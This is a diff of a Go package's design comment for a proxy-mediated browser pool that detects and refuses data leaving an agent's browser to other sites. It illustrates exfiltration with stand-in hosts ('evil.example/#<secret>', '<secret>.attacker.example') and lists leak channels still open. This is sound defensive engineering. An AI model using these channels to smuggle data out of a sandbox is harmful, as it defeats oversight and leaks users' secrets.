@@ -87,51 +87,139 @@
 // out). Only the pool can propose that publish (a context value,
 // as for sends); an agent's "publish" to the browser sink is a bad request.
 //
+// # The run's site
+//
+// Every request is decided against the run's site: the host of the
+// agent's last goto (its target while the goto runs, the page's host after
+// its redirects once it returns). A page that takes itself elsewhere (a
+// link it follows, a script setting location, a popup it opens, a meta
+// refresh) does not take the run's site with it: its requests to the new
+// host are to another site until the agent goes there with goto. That is
+// what closes the channels a plain navigation opens past the proxy's view:
+// a fragment (location = "https://evil.example/#<secret>", never sent, read
+// by evil's page), window.name, document.referrer under a page's
+// "unsafe-url" policy. So in strict mode a page reached by a click can read
+// but not send until the agent goes there itself; a popup's sends are
+// refused unless a rule names its site (log-in popups need one). An
+// action's target is its page's host and path, with host and path
+// redacted as below when the page is on another site and they carry data,
+// so what a page puts in its own address does not reach the journal.
+//
 // # Sends: data leaving the browser
 //
 // Every request a run's pages make whose method is not GET, HEAD or OPTIONS
 // (a form, fetch, XHR, sendBeacon, <a ping>) is a "send" effect, decided and
 // recorded by the broker: Effect{Action: "send", Method, Host, PageHost,
 // Target: host+path, Path}, with the body's size and digest. PageHost is the
-// host of the top-level page the request comes from (for a popup that is
-// still about:blank, its opener's; for a request without a frame, such as a
-// worker's, the run's current page). The policy's built-in
-// browser-send-off-site refuses a send to a host other than PageHost in
-// strict mode unless an effects allow rule with a target matches, e.g.
-// {sink: browser, target: "api.example.com/**"}.
+// run's site. The policy's built-in browser-send-off-site refuses a send to
+// a host other than PageHost in strict mode unless an effects allow rule
+// with a target matches, e.g. {sink: browser, target: "api.example.com/**"}.
+// A GET, HEAD or OPTIONS with a body is a send like a POST
+// (Values[policy.BrowserBodyBytes]); the agent's goto passes undecided only
+// as the GET it is.
 //
-// Also decided, by the same path (rules in policy/browser.go):
-//   - a GET, HEAD or OPTIONS with a body (an OPTIONS can carry one) is a
-//     send like a POST (Values[policy.BrowserBodyBytes] says so); the
-//     agent's goto passes undecided only as the GET it is, and an Upgrade
-//     other than a WebSocket's through CONNECT is refused (400);
-//   - a GET to another site whose query is longer than the rules file's
-//     browser.max_off_site_query_bytes (policy.DefaultMaxOffSiteQueryBytes,
-//     1024, when unset) is a send with Method GET; its size and digest are
-//     the query's (never its text), and strict mode refuses it
-//     (browser-query-off-site) unless an allow rule names the target;
-//   - a read (a frame, fetch, image) of a target a scope names is decided
-//     like a navigation (Action navigate), so a run without the scope is
-//     refused (scope-missing) in report mode too; when a scope names a
-//     browser target, report mode routes requests as strict mode does;
-//   - HTTPS is looked into, not decided by host (mitm.go): in report and
-//     strict mode the proxy terminates the TLS of every tunnel with a
-//     certificate only this pool's Chromium accepts, verifies the site's
-//     certificate itself (system roots, or Config.TLSRoots), and decides
-//     the requests inside one by one like plain http. So a page's reads
-//     from other HTTPS hosts (CDNs, fonts, images) work in strict mode
-//     without a rule, and every send there is decided, including those
-//     routing never sees;
-//   - a WebSocket (ws://, or wss:// inside an intercepted tunnel) to a host
-//     other than the page's or one the agent navigated to is a "connect"
-//     effect, refused in strict mode (browser-send-off-site) unless an
-//     allow rule names the host; the outcome, recorded when it closes,
-//     counts and digests the frames the page sent (detail websocket,
-//     frames, path; Size and Digest are the payloads');
+// # Data in a read
+//
+// A read (GET, HEAD) of another site carries data when the page put some
+// in it. Everything in a request the page can choose is looked at, and
+// what makes it data is decided here (limits in the rules file's browser
+// section, policy/browser.go):
+//
+//   - the query: any query, by default (max_off_site_query_bytes 0). A
+//     query is the page's parameters, and any limit above zero lets a
+//     key through in one request and anything through in several;
+//   - the path, when longer than max_off_site_path_bytes (128): a CDN's
+//     paths (a library's version folder and file, a font's hashed name)
+//     stay under it, a page's worth of data (a token, a cookie jar, an
+//     address book page) does not. Shorter paths are taken for the
+//     resource's name: telling a key from a hashed file name is not
+//     possible, so that much stays a channel (see Not covered);
+//   - the host name: the labels below its registrable domain (the public
+//     suffix list; "localhost" is a suffix of its own) when longer than
+//     max_off_site_name_bytes (24): "fonts", "d1a2b3c4d5e6f7" (CloudFront)
+//     pass, "<secret>.attacker.example" does not. Such a read is decided
+//     before anything is resolved, and the effect and journal name the
+//     host "*." + its registrable domain, never the labels;
+//   - headers the page set itself: any header Chromium does not set (an
+//     X- header, Authorization), an Accept of media types Chromium does
+//     not send or a page asking an API for JSON would not, an
+//     Accept-Language other than the browser's own (learnt from the
+//     agent's goto), a Range other than a media element's, and every
+//     header a CORS preflight announced for the request;
+//   - the Referer and cookies, which strict mode cuts rather than refuses:
+//     a read of another site goes with its Referer cut to the origin (a
+//     page can set its own URL with history.replaceState and ask for
+//     "unsafe-url"), and with only the cookies that site set itself
+//     through the proxy (a page's script can plant a cookie that browsers
+//     send to every port of its host, or a parent domain's cookie to a
+//     sibling);
+//   - the fragment never leaves the browser; the site rule above covers
+//     what a page does with it.
+//
+// A read carrying data is a send with Method GET: its size is the bytes
+// carried and its digest is over them (never their text), Values name
+// which (policy.BrowserQueryBytes, BrowserPathBytes, BrowserNameBytes,
+// BrowserHeaderBytes), a path that carried data is named "/...", and strict
+// mode refuses it (browser-query-off-site for a query, else
+// browser-data-off-site) unless an allow rule names its target. Plain
+// reads (CSS, images, fonts, scripts without data) pass, neither decided
+// nor recorded. With off_site_reads: named every read of another site
+// needs a rule.
+//
+// The cost, in strict mode: a page that loads from another host with a
+// query needs a rule for that host: Google Fonts' CSS
+// (fonts.googleapis.com/css2?family=...), tag managers and analytics
+// (gtag/js?id=...), image CDNs that resize by query (imgix, Cloudinary's
+// fetch URLs, Unsplash), cache-busting ?v= on another host, embedded maps
+// and videos, S3 and GCS signed URLs, OAuth and payment redirects; so does
+// an API on a subdomain called with custom headers, and a path longer
+// than 128 bytes (Wikimedia thumbnails). Sites on the page's own host are
+// never affected.
+//
+// # Also decided
+//
+//   - a redirect, at the redirect, for its target: the proxy sees the 3xx
+//     before Chromium does, classifies the request Chromium would make to
+//     follow it (a 307 or 308 re-sends the body to the new host, an open
+//     redirect carries data in its Location), decides it, and answers a
+//     refused one 403 in its place; an allowed one's follow-up passes once
+//     without a second decision;
+//   - a CORS preflight to another site: in strict mode, unless an allow
+//     rule names the target, the proxy answers it itself, allowing what
+//     was asked, so the request it precedes comes and is decided (and
+//     refused) with its body, and the site hears nothing; otherwise the
+//     site answers (Policy.BrowserTargetAllowed; a rule matching on the
+//     agent is not known there and does not count);
+//   - a read of a target a scope names is decided like a navigation, so a
+//     run without the scope is refused (scope-missing) in report mode too;
+//   - HTTPS is looked into, not decided by host (mitm.go);
+//   - a tunnel whose content the proxy cannot decide request by request,
+//     to a host other than the run's site, is a "connect" effect, refused
+//     in strict mode (browser-send-off-site) unless an allow rule names the
+//     host: a WebSocket (ws://, or wss:// inside an intercepted tunnel),
+//     WebRTC's TURN over TCP, and anything but HTTP inside TLS (TURN over
+//     TLS). Its outcome, recorded when it closes, counts and digests what
+//     the page sent (for a WebSocket, its frames);
 //   - the browser's own traffic is a "background" effect of origin runtime,
 //     refused in every mode (browser-background) and recorded under a run
-//     the pool opens for tenant RuntimeTenant and person RuntimePerson, never
-//     under an agent's run.
+//     the pool opens for tenant RuntimeTenant and person RuntimePerson.
+//
+// # WebRTC and DNS
+//
+// Chromium is launched with --webrtc-ip-handling-policy=
+// disable_non_proxied_udp (its WebRTCIPHandlingPolicy): WebRTC sends no UDP
+// to any host, gathers no host candidates, and can only relay over TCP or
+// TLS through the proxy, where each tunnel is a connect effect (refused in
+// strict mode, recorded in report mode, in every mode the same flag, since
+// the browser outlives a mode switch). And with
+// --host-resolver-rules="MAP * ~NOTFOUND , EXCLUDE 127.0.0.1" Chromium
+// resolves no name itself (DNS prefetch, preconnect, a STUN server's name):
+// behind the proxy it hands names to the proxy, which resolves one only for
+// a request it lets out, after deciding it, and maps localhost names to
+// 127.0.0.1 without asking DNS (RFC 6761). A name that carries data is
+// refused before it is resolved. The tests count on STUN/TURN servers of
+// their own (UDP, TCP, TLS) from pages, frames of both sites and workers
+// (which have no RTCPeerConnection).
 //
 // None of these travel over NATS. The pool proposes them to the broker
 // through the Decider it was bound to (Bind), in process. An agent cannot
@@ -140,44 +228,52 @@
 // and the effect is built from that request, never from params. An agent's
 // "send" over NATS is refused as a bad request and nothing is decided.
 //
-// # Two eyes, one decision per request
+// # One eye, one decision per request, on record before the next action
 //
-// The route handler (context.Route("**/*")) sees requests with their frame,
-// so it knows the page they come from; the forward proxy (proxy.go) inside
-// the broker process sees everything Chromium sends, including what routing
-// never sees: shared workers, 307/308 redirects re-sending a body, beacons
-// fired on pagehide or while a page closes, iframes that remove themselves,
-// WebSocket handshakes, and Chromium's own traffic. Each context gets its own
-// proxy listener (the per-context Proxy option), so the listener a request
-// arrives on names its run; Chromium is launched with the runtime's listener
-// for traffic of no context.
+// Nothing is routed through Playwright. Each context gets its own proxy
+// listener (the per-context Proxy option), so the listener a request
+// arrives on names its run, and the proxy (proxy.go) decides every request
+// the context makes: pages, frames that removed themselves, dedicated and
+// shared workers, beacons on pagehide and while a page closes, redirects,
+// WebSocket handshakes. Routing (context.Route) was dropped: Chromium holds
+// a routed request until its handler answers, and Playwright loses the
+// handler of a request whose frame is gone or that a redirect re-sent, so
+// such requests waited until the context closed, or were lost with it,
+// undecided; it also cost a driver round trip per request and Chromium's
+// HTTP cache. Chromium is launched with the runtime's listener for traffic
+// of no context.
 //
-// A request is decided once. The route handler continues what it decided
-// (http and https alike: the proxy sees inside every tunnel whenever
-// routing is on) with a one-time token header the proxy strips and spends; the proxy
-// decides whatever arrives without an unspent token, under the same
-// classification (Pool.classify), with the run's current top-level page as
-// PageHost. A body a redirect re-sends carries a spent token and is decided
-// again, as a send to its new host.
+// Every action starts with a settle barrier and every action that touches
+// a page (goto, click, fill, select, press) ends with one (session.settle):
+// it returns once every decision under way is recorded, no request the
+// proxy is forwarding or that Chromium reported making (Playwright's
+// request events) is younger than a second and not yet at the proxy, no
+// page opened by the run is still loading, and the proxy has seen nothing
+// arrive or finish for Config.SettleQuiet (250 ms) since the action ended;
+// at most Config.SettleMax (2 s). So a refused request is on record once,
+// before the action that set it off returns, or the next one if the page
+// sends later. The agent's close, and the broker's work.close (which now
+// lets sinks close an open run before closing it), close the run's pages
+// first (their pagehide handlers run), settle, then close the context: a
+// beacon on close is decided under the run.
 //
 // By mode (the bound broker's):
-//   - strict: every request is routed. Plain reads continue at once,
-//     neither decided nor recorded. A decided request is held until its
-//     decision: Perform releases it only after the decision and attempt are
+//   - strict: a request that needs deciding is held until its decision:
+//     Perform releases it only after the decision and attempt are
 //     recorded; a refusal, a decision that cannot be recorded or a closing
-//     pool aborts it (net::ERR_BLOCKED_BY_CLIENT from routing, 403 from the
-//     proxy), so nothing reaches the other site.
-//   - report: nothing is routed (unless a scope names a browser target), so
-//     the page pays only the loopback proxy hop. The proxy lets sends out at
-//     once and proposes them in the background; what strict mode would
-//     refuse is recorded as such, and the send's outcome carries detail
-//     observed=true (it had already left).
-//   - off: nothing is routed, decided or recorded; the proxy passes
-//     everything but the browser's own traffic, and HTTPS tunnels are
-//     blind (Chromium verifies the sites itself).
+//     pool answers it 403, so nothing reaches the other site. A plain read
+//     goes out at once (cut as above when to another site).
+//   - report: sends go out at once and are proposed in the background;
+//     what strict mode would refuse is recorded as such, and the send's
+//     outcome carries detail observed=true (it had already left). Reads
+//     are not cut. When a scope names a browser target, requests are held
+//     as in strict mode, so the scope's refusal holds.
+//   - off: nothing is decided or recorded; the proxy passes everything but
+//     the browser's own traffic, and HTTPS tunnels are blind (Chromium
+//     verifies the sites itself).
 //
 // A pool that is not bound opens no page (ErrNotBound); a send seen while
-// the pool is closing, or by a pool that lost its binding, is aborted.
+// the pool is closing, or by a pool that lost its binding, is refused.
 //
 // # Failures
 //
@@ -191,6 +287,30 @@
 //
 // # Not covered
 //
+//   - the choice of which plain read to make: a page can still signal by
+//     which of several data-free URLs it loads (CSS attribute selectors
+//     loading /a or /b; which port, or which address of an IPv6 prefix the
+//     attacker holds, it asks for), and through a path up to
+//     max_off_site_path_bytes or name labels up to max_off_site_name_bytes,
+//     one request at a time.
+//     The limits stop a secret of realistic size in one request, not a
+//     page that spells one out over many; a deployment that must close
+//     this sets browser.off_site_reads: named;
+//   - timing: a site the page may read can be told things by when it is
+//     read;
+//   - a remote ICE candidate with a .local name the page adds can make
+//     Chromium send one mDNS query on the local network; the resolver
+//     rules have put "~NOTFOUND" in the name's place, so it carries no
+//     page data (WebTransport fails through the proxy and sends nothing);
+//   - requests are decided against the run's site whichever page sent
+//     them: with two pages open on two sites, the other page's requests
+//     to its own site count as off-site;
+//   - a page that keeps sending for longer than SettleMax after an action
+//     has what it sends later recorded later (still once, and in strict
+//     mode still refused first);
+//   - a CORS preflight the proxy answers in strict mode is not the site's
+//     answer: a rule that names the target on the agent alone lets the
+//     request go without the site's preflight;
 //   - between Chromium and the proxy HTTPS is HTTP/1.1 only (the proxy
 //     reaches sites with HTTP/1.1 too); a site whose certificate the
 //     deployment's roots do not verify answers 502 (the proxy's), where
@@ -199,10 +319,6 @@
 //   - the browser's own traffic inside a context is recognised by a list of
 //     Chromium's service hosts (browserServiceHosts); a host not on it is
 //     taken for the run's: its reads pass, its sends are decided;
-//   - a beacon fired while the agent's close action tears the context down
-//     is decided or lost with the context, never let out undecided;
-//   - WebRTC; navigations the page starts itself are decided only when they
-//     carry data;
 //   - a screenshot's publish that an approval rule matches is held, and the
 //     screenshot fails (ErrNotStored): the pool does not wait for the
 //     approval, and the agent cannot resend the pool's publish. Keep
